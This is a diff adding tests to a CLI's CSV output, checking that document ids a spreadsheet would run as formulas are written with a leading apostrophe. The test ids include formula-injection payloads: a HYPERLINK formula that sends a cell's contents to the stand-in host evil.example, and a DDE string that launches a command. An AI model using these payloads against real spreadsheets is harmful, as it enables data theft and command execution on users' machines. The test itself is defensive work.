@@ -62,6 +62,17 @@ describe("formats", () => {
     ]);
   });
 
+  const formulaIds = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tyonhap-1", "\ryonhap-2"];
+  const formulaRows = (async () => {
+    const run = await runCli(["extract", "--format", "csv", "--jobs", "1"], { input: ndjson(formulaIds.map((id) => ({ id, text: 12 }))) });
+    const [header, ...rows] = parseCsv(run.stdout);
+    return rows.map((row) => row[header?.indexOf("document_id") ?? -1]);
+  })();
+
+  it.each(formulaIds.map((id, index) => [id, index]))("csv: a document id that a spreadsheet would run, %j, is written after a '", async (id, index) => {
+    expect((await formulaRows)[index as number]).toBe(`'${id}`);
+  });
+
   it("table: a titled block per document, each record's person and status, errors inline", async () => {
     const { stdout } = await outcomesAs("table");
     const titles = stdout.split("\n").filter((line) => line.startsWith("== "));
